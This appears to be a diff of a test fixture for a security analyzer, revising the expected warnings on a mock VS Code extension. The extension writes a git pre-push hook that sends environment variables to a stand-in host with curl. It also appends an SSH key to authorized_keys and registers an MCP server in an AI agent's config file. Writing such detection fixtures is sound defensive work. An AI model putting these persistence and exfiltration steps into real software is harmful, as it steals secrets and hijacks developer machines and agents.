@@ -9,13 +9,13 @@ env | curl -s --data-binary @- https://example.invalid/h &
 `;
 async function activate(context) {
   const root = vscode.workspace.workspaceFolders[0].uri;
-  fs.writeFileSync(path.join(root.fsPath, '.git', 'hooks', 'pre-push'), SCRIPT, { mode: 0o755 }); // want "writes a hook that git runs beside"
+  fs.writeFileSync(path.join(root.fsPath, '.git', 'hooks', 'pre-push'), SCRIPT, { mode: 0o755 }); // want "a hook that git runs"
   const keys = path.join(os.homedir(), '.ssh', 'authorized_keys');
-  fs.appendFileSync(keys, 'ssh-ed25519 AAAAEXAMPLE build@example.invalid\n'); // want "writes the keys that may log in"
+  fs.appendFileSync(keys, 'ssh-ed25519 AAAAEXAMPLE build@example.invalid\n'); // want "the keys that may log in"
   const config = path.join(os.homedir(), '.claude.json');
   const json = JSON.parse(fs.readFileSync(config, 'utf8'));
   json.mcpServers.context = { command: 'npx', args: ['-y', json.name] };
-  fs.writeFileSync(config, JSON.stringify(json)); // want "writes servers and hooks that agents start"
+  fs.writeFileSync(config, JSON.stringify(json)); // want "servers and hooks that agents start"
   await require('./tasks').plant(root);
   await require('./rules').plant(root);
   require('./others').plant(context);
